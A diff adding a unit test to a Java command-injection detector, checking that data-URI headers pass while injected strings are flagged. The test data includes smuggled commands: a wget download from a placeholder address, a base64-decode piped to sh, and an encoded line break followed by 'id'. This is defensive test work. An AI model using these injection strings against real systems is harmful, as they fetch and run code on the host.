@@ -142,6 +142,16 @@ class CommandInjectionTest {
     }
 
     @Test
+    void aDataUriHeaderIsNoCommandLine() {
+        // RFC 2397: the ';' before base64 or a parameter belongs to the media type
+        assertThat(CommandInjection.detect("data:image/png;base64,ivborw0kggoaaaansuheug")).isEmpty();
+        assertThat(CommandInjection.detect("data:font/woff2;base64,d09gmgabaaaaa")).isEmpty();
+        // what follows the header is still read
+        assertThat(CommandInjection.detect("data:,x;wget http://203.0.113.5/a -o /tmp/a")).isPresent();
+        assertThat(CommandInjection.detect("x;base64 -d /tmp/a | sh")).isPresent();
+    }
+
+    @Test
     void readsAnEncodedLineBreakAsASeparator() {
         // the decoded form compressed the line break to a space; the raw form still says where it was
         assertThat(CommandInjection.detect("8.8.8.8 id", "8.8.8.8%0aid")).isPresent();
